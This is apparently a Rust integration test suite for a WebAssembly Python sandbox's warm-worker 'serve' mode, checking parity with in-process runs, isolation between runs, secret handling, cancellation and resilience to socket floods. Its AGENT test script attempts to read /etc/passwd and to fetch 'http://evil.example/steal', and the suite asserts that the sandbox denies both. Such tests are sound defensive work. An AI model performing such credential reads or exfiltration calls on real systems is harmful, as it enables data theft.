//! `sbx-wasm python serve` and `sbx-wasm run script.py` handing its run to
//! a warm worker: real server, worker and client processes, the real
//! runner. Each served run is checked against the same run in the client's
//! own process (`--no-server`): same output, exit code, denials, files.
//! The harness (a server per test, a run's output and report) is in
//! `served.rs`.

mod cleanup;
mod data;
mod served;

use sbx_wasm_tests::{LoopbackServer, sbx_bin, snapshot, utf8};
use served::{Ran, Served, first_line, start_server, tree, warm_cache};
use std::io::Write;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

const AGENT: &str = r#"
import os, sbx
rows = open("/work/table.csv").read().splitlines()
open("/work/out/count.txt", "w").write(str(len(rows) - 1))
print("rows", len(rows) - 1)
try:
    open("/etc/passwd").read()
    print("passwd READ")
except OSError as e:
    print("passwd refused:", type(e).__name__)
try:
    sbx.fetch("http://evil.example/steal")
except sbx.Denied as e:
    print("fetch refused:", e.violation)
"#;

#[test]
fn a_served_run_does_what_the_same_run_does_in_its_own_process() {
    let served = Served::start(&[]);
    let t = tree("", &[("agent.py", AGENT)]);
    let data = snapshot(&t.path().join("data"));

    let own = served.run(t.path(), "agent.py", &["--no-server"], &[]);
    assert!(!own.served(), "{}", own.stderr());
    std::fs::remove_file(t.path().join("out/count.txt")).unwrap();
    let ran = served.run(t.path(), "agent.py", &[], &[]);
    assert!(ran.served(), "not served: {}", ran.stderr());

    assert_eq!(ran.code(), Some(0), "{}", ran.stderr());
    assert_eq!(ran.code(), own.code());
    assert_eq!(ran.stdout(), own.stdout());
    assert!(
        ran.stdout().contains("passwd refused: FileNotFoundError"),
        "{}",
        ran.stdout()
    );
    assert!(
        ran.stdout().contains("fetch refused: egress_denied"),
        "{}",
        ran.stdout()
    );
    assert_eq!(
        ran.denials(),
        ["fs_read_denied", "egress_denied"],
        "{}",
        ran.report
    );
    assert_eq!(ran.denials(), own.denials());
    // The allowed write happened, in the client's tree; the read mount and
    // the rest of the host are as they were.
    assert_eq!(
        std::fs::read_to_string(t.path().join("out/count.txt")).unwrap(),
        "2"
    );
    assert_eq!(snapshot(&t.path().join("data")), data);
    assert!(ran.stderr().contains("kernel wall up"), "{}", ran.stderr());
    // The report went where the client's relative path says.
    assert_eq!(ran.report["status"], "completed", "{}", ran.report);

    // A deterministic run starts on a fresh instance: its client runs it.
    let det = served.run(t.path(), "agent.py", &["--deterministic"], &[]);
    assert!(!det.served(), "{}", det.stderr());
    assert_eq!(det.stdout(), own.stdout());
}

#[test]
fn each_served_run_starts_from_nothing_of_the_last() {
    let served = Served::start(&[]);
    let t = tree(
        "",
        &[
            (
                "mark.py",
                "import os, builtins, sys\n\
         open('/tmp/left.txt', 'w').write('x')\n\
         os.environ['LEFT'] = '1'\n\
         builtins.LEFT = 1\n\
         sys.modules['left_module'] = sys\n\
         print('marked')\n",
            ),
            (
                "look.py",
                "import os, builtins, sys\n\
         print(os.path.exists('/tmp/left.txt'), os.environ.get('LEFT'), \
         hasattr(builtins, 'LEFT'), 'left_module' in sys.modules)\n",
            ),
        ],
    );
    let first = served.run(t.path(), "mark.py", &[], &[]);
    assert_eq!(first.stdout(), "marked\n", "{}", first.stderr());
    let second = served.run(t.path(), "look.py", &[], &[]);
    assert!(first.served() && second.served(), "{}", second.stderr());
    assert_eq!(
        second.stdout(),
        "False None False False\n",
        "{}",
        second.stderr()
    );
}

#[test]
fn stdin_exit_codes_and_hard_limits_pass_through_a_served_run() {
    let served = Served::start(&[]);
    let t = tree(
        "[budget]\nmax_fuel = 200000000\n",
        &[
            (
                "echo.py",
                "import sys\nprint(sys.stdin.read().upper(), end='')\n",
            ),
            ("fail.py", "import sys\nprint('bye')\nsys.exit(3)\n"),
            ("spin.py", "while True:\n    pass\n"),
        ],
    );

    let mut child = served.spawn(t.path(), "echo.py");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"from the pipe\n")
        .unwrap();
    let echoed = Ran::read(t.path(), child.wait_with_output().unwrap());
    assert!(echoed.served(), "{}", echoed.stderr());
    assert_eq!(echoed.stdout(), "FROM THE PIPE\n", "{}", echoed.stderr());

    for (script, code) in [("fail.py", 3), ("spin.py", 124)] {
        let own = served.run(t.path(), script, &["--no-server"], &[]);
        let ran = served.run(t.path(), script, &[], &[]);
        assert!(ran.served(), "{}", ran.stderr());
        assert_eq!(ran.code(), Some(code), "{script}: {}", ran.stderr());
        assert_eq!(ran.code(), own.code(), "{script}");
        assert_eq!(ran.stdout(), own.stdout(), "{script}");
        assert_eq!(ran.report["violation"], own.report["violation"], "{script}");
    }
}

#[test]
fn a_worker_whose_environment_differs_leaves_the_run_to_its_client() {
    // The secret comes from the environment `run` is started in: a worker
    // started with another value must not answer for it.
    let api = LoopbackServer::start();
    let origin = api.origin();
    let caps = format!(
        "[net]\nallow = [\"{origin}\"]\n\
         [secrets.TOKEN]\nfrom_env = \"SBX_SERVE_TEST_TOKEN\"\nhosts = [\"{origin}\"]\n\
         headers = [\"Authorization\"]\n"
    );
    let call = format!(
        "import sbx\nr = sbx.fetch('{origin}/status', headers={{'Authorization': sbx.secret('TOKEN')}})\nprint(r.status)\n"
    );
    let t = tree(&caps, &[("call.py", &call)]);
    let served = Served::start(&[("SBX_SERVE_TEST_TOKEN", "value-of-the-server")]);

    let same = served.run(
        t.path(),
        "call.py",
        &[],
        &[("SBX_SERVE_TEST_TOKEN", "value-of-the-server")],
    );
    assert!(same.served(), "{}", same.stderr());
    assert_eq!(same.stdout(), "200\n", "{}", same.stderr());

    let other = served.run(
        t.path(),
        "call.py",
        &[],
        &[("SBX_SERVE_TEST_TOKEN", "value-of-the-client")],
    );
    assert!(!other.served(), "{}", other.stderr());
    assert_eq!(other.stdout(), "200\n", "{}", other.stderr());
    let headers = api.headers();
    let sent: Vec<&String> = headers
        .iter()
        .filter(|h| h.to_ascii_lowercase().starts_with("authorization:"))
        .collect();
    assert_eq!(sent.len(), 2, "{headers:?}");
    assert!(sent[0].ends_with("value-of-the-server"), "{sent:?}");
    assert!(sent[1].ends_with("value-of-the-client"), "{sent:?}");
}

#[test]
fn ctrl_c_cancels_a_served_run_and_a_client_that_dies_takes_its_run_along() {
    let served = Served::start(&[]);
    let wait = [(
        "wait.py",
        "import time\nprint('started', flush=True)\nwhile True:\n    time.sleep(0.01)\n",
    )];
    let t = tree(
        "[budget]\nmax_wall_ms = 120000\nmax_fuel = \"off\"\n",
        &wait,
    );
    // A wall-only grant runs on an engine without fuel: the worker (which
    // has one with fuel) leaves it to the client; with fuel it is served.
    let t_fuel = tree(
        "[budget]\nmax_wall_ms = 120000\nmax_fuel = 1000000000000\n",
        &wait,
    );
    for (dir, served_expected) in [(t.path(), false), (t_fuel.path(), true)] {
        let mut child = served.spawn(dir, "wait.py");
        assert_eq!(first_line(&mut child).0, "started\n");
        let _ = Command::new("kill")
            .args(["-INT", &child.id().to_string()])
            .status();
        let ran = Ran::read(dir, child.wait_with_output().unwrap());
        assert_eq!(ran.code(), Some(130), "{}", ran.stderr());
        assert_eq!(ran.report["status"], "cancelled", "{}", ran.report);
        assert_eq!(ran.served(), served_expected, "{}", ran.stderr());
    }

    // SIGKILL: the client cannot say anything; the server sees it gone and
    // cancels the worker, which ends.
    let mut child = served.spawn(t_fuel.path(), "wait.py");
    assert_eq!(first_line(&mut child).0, "started\n");
    let running = served.workers();
    assert_eq!(running.len(), 1, "one worker, running the script");
    child.kill().unwrap();
    child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while served.workers().contains(&running[0]) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(
        !served.workers().contains(&running[0]),
        "the abandoned run's worker is still there"
    );
}

#[test]
fn one_server_a_runner_and_a_stale_socket_is_replaced() {
    let served = Served::start(&[]);
    let again = Command::new(sbx_bin())
        .env("SBX_WASM_CACHE_DIR", warm_cache())
        .args(["python", "serve", "--python-runner"])
        .arg(&served.runner)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(again.status.code(), Some(2), "{}", utf8(&again.stderr));
    assert!(
        utf8(&again.stderr).contains("already serves"),
        "{}",
        utf8(&again.stderr)
    );

    // A server killed outright leaves its socket file; the next one takes
    // its place, and runs are served again.
    let runner = served.runner.clone();
    let socket = served.socket.clone();
    let mut served = served;
    served.server.kill().unwrap();
    served.server.wait().unwrap();
    assert!(socket.exists());
    let t = tree("", &[("hi.py", "print('hi')\n")]);
    let unserved = served.run(t.path(), "hi.py", &[], &[]);
    assert_eq!(unserved.stdout(), "hi\n", "{}", unserved.stderr());
    assert!(!unserved.served(), "{}", unserved.stderr());
    let (server, socket2) = start_server(&runner, &[]);
    served.server = server;
    assert_eq!(socket2, socket);
    let ran = served.run(t.path(), "hi.py", &[], &[]);
    assert!(ran.served(), "{}", ran.stderr());
    assert_eq!(ran.stdout(), "hi\n");
}

#[test]
fn garbage_silence_and_a_flood_on_the_socket_leave_the_server_serving() {
    use std::io::Read;
    use std::os::unix::net::UnixStream;
    let served = Served::start(&[]);
    let t = tree("", &[("hi.py", "print('hi')\n")]);
    // A length past the 1 MiB bound, and a frame that is not JSON: the
    // server hangs up on each at once, without an answer.
    let mut huge = UnixStream::connect(&served.socket).unwrap();
    huge.write_all(&u32::MAX.to_le_bytes()).unwrap();
    let mut junk = UnixStream::connect(&served.socket).unwrap();
    junk.write_all(&5u32.to_le_bytes()).unwrap();
    junk.write_all(b"{not}").unwrap();
    for mut conn in [huge, junk] {
        let mut answer = Vec::new();
        conn.read_to_end(&mut answer).unwrap();
        assert!(answer.is_empty(), "{answer:?}");
    }
    // 200 clients that connect and say nothing: at most 64 hold a thread
    // (each for at most 5 s), the rest are told to run on their own, and a
    // real run still ends as it should (on its own, the server full).
    let flood: Vec<UnixStream> = (0..200)
        .map(|_| UnixStream::connect(&served.socket).unwrap())
        .collect();
    let ran = served.run(t.path(), "hi.py", &[], &[]);
    assert_eq!(ran.code(), Some(0), "{}", ran.stderr());
    assert_eq!(ran.stdout(), "hi\n");
    let threads = std::fs::read_to_string(format!("/proc/{}/status", served.server.id()))
        .unwrap()
        .lines()
        .find_map(|l| {
            l.strip_prefix("Threads:")
                .map(|n| n.trim().parse::<usize>().unwrap())
        })
        .unwrap();
    assert!(threads <= 64 + 4, "{threads} threads in the server");
    // Once they are gone, runs are served again.
    drop(flood);
    let deadline = Instant::now() + Duration::from_secs(15);
    let mut served_again = false;
    while !served_again && Instant::now() < deadline {
        let ran = served.run(t.path(), "hi.py", &[], &[]);
        assert_eq!(ran.stdout(), "hi\n", "{}", ran.stderr());
        served_again = ran.served();
    }
    assert!(
        served_again,
        "the server did not serve again after the flood"
    );
}

#[test]
fn stopping_the_server_lets_a_run_under_way_finish() {
    let mut served = Served::start(&[]);
    let t = tree(
        "",
        &[
            ("hi.py", "print('hi')\n"),
            (
                "slow.py",
                "import time\nprint('started', flush=True)\ntime.sleep(1)\nprint('finished')\n",
            ),
        ],
    );
    // The first worker was made before the server listened; the next ones
    // are made by its refill thread, which must outlive their runs.
    assert!(served.run(t.path(), "hi.py", &[], &[]).served());
    let mut child = served.spawn(t.path(), "slow.py");
    let (line, mut out) = first_line(&mut child);
    assert_eq!(line, "started\n");
    let _ = Command::new("kill")
        .arg(served.server.id().to_string())
        .status();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
    let ran = Ran::read(t.path(), child.wait_with_output().unwrap());
    assert_eq!(rest, "finished\n", "{}", ran.stderr());
    assert_eq!(ran.code(), Some(0), "{}", ran.stderr());
    assert!(ran.served(), "{}", ran.stderr());
    assert_eq!(ran.report["status"], "completed", "{}", ran.report);
    let status = served.server.wait().unwrap();
    assert!(status.success(), "{status}");
    // Stopped: the next run is its client's own.
    let after = served.run(t.path(), "hi.py", &[], &[]);
    assert_eq!(after.stdout(), "hi\n", "{}", after.stderr());
    assert!(!after.served());
}

/// This process's umask, from the kernel.
fn umask_here() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("Umask:")).unwrap();
    u32::from_str_radix(line.trim_start_matches("Umask:").trim(), 8).unwrap()
}

#[test]
fn a_client_whose_umask_limits_or_network_differ_runs_its_script_itself() {
    use std::os::unix::fs::PermissionsExt;
    use std::os::unix::process::CommandExt;
    let write = "open('/work/out/f.txt', 'w').write('x')\nprint('wrote')\n";
    let t = tree("", &[("w.py", write)]);
    let served = Served::start(&[]);
    let mode = || {
        let m = std::fs::metadata(t.path().join("out/f.txt")).unwrap();
        let _ = std::fs::remove_file(t.path().join("out/f.txt"));
        m.permissions().mode() & 0o777
    };
    // The allowed neighbour: the client's own context, served; the file
    // gets the mode the client's umask gives.
    let same = served.run(t.path(), "w.py", &["--verbose"], &[]);
    assert!(same.served(), "{}", same.stderr());
    assert_eq!(mode(), 0o666 & !umask_here());

    // umask 077: run by the client itself, and its file is private.
    let mut cmd = served.cmd(t.path(), "w.py", &["--verbose"], &[]);
    // SAFETY: umask is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            libc::umask(0o077);
            Ok(())
        });
    }
    let ran = Ran::read(t.path(), cmd.stdin(Stdio::null()).output().unwrap());
    assert!(!ran.served(), "{}", ran.stderr());
    assert!(
        ran.stderr().contains("not the same umask"),
        "{}",
        ran.stderr()
    );
    assert_eq!(ran.stdout(), "wrote\n");
    assert_eq!(mode(), 0o600);

    // A file-size limit of the client's: not served either.
    let mut cmd = served.cmd(t.path(), "w.py", &["--verbose"], &[]);
    // SAFETY: setrlimit is async-signal-safe.
    unsafe {
        cmd.pre_exec(|| {
            let mut lim = libc::rlimit {
                rlim_cur: 0,
                rlim_max: 0,
            };
            libc::getrlimit(libc::RLIMIT_FSIZE, &mut lim);
            lim.rlim_cur = 64 << 20;
            libc::setrlimit(libc::RLIMIT_FSIZE, &lim);
            Ok(())
        });
    }
    let ran = Ran::read(t.path(), cmd.stdin(Stdio::null()).output().unwrap());
    assert!(!ran.served(), "{}", ran.stderr());
    assert!(ran.stderr().contains("resource limits"), "{}", ran.stderr());

    // A client in a network namespace of its own (where it can make one).
    let unshare = Command::new("unshare").args(["-n", "true"]).status();
    if !unshare.is_ok_and(|s| s.success()) {
        eprintln!("skipped the network namespace case: `unshare -n` is not allowed here");
        return;
    }
    let plain = served.cmd(t.path(), "w.py", &["--verbose"], &[]);
    let mut cmd = Command::new("unshare");
    cmd.arg("-n")
        .arg(plain.get_program())
        .args(plain.get_args());
    cmd.current_dir(t.path())
        .envs(plain.get_envs().filter_map(|(k, v)| Some((k, v?))));
    let ran = Ran::read(t.path(), cmd.stdin(Stdio::null()).output().unwrap());
    assert!(!ran.served(), "{}", ran.stderr());
    assert!(ran.stderr().contains("net namespace"), "{}", ran.stderr());
}

#[test]
fn a_run_for_another_runner_file_says_under_verbose_why_it_was_not_served() {
    let t = tree("", &[("p.py", "print('here')\n")]);
    let served = Served::start(&[]);
    // The allowed neighbour: the server's own runner file is served.
    let same = served.run(t.path(), "p.py", &["--verbose"], &[]);
    assert!(same.served(), "{}", same.stderr());
    // The same runner under another path is another runner to a server.
    let other = t.path().join("other-runner.wasm");
    std::fs::hard_link(&served.runner, &other).unwrap();
    let out = Command::new(sbx_bin())
        .current_dir(t.path())
        .env("SBX_WASM_CACHE_DIR", warm_cache())
        .args(["run", "--verbose", "--caps", "caps.toml", "--python-runner"])
        .arg(&other)
        .arg("p.py")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let ran = Ran::read(t.path(), out);
    assert_eq!(ran.stdout(), "here\n");
    assert!(!ran.served(), "{}", ran.stderr());
    assert!(
        ran.stderr()
            .contains("running here, not in a warm worker: no `python serve` for the runner"),
        "{}",
        ran.stderr()
    );
}
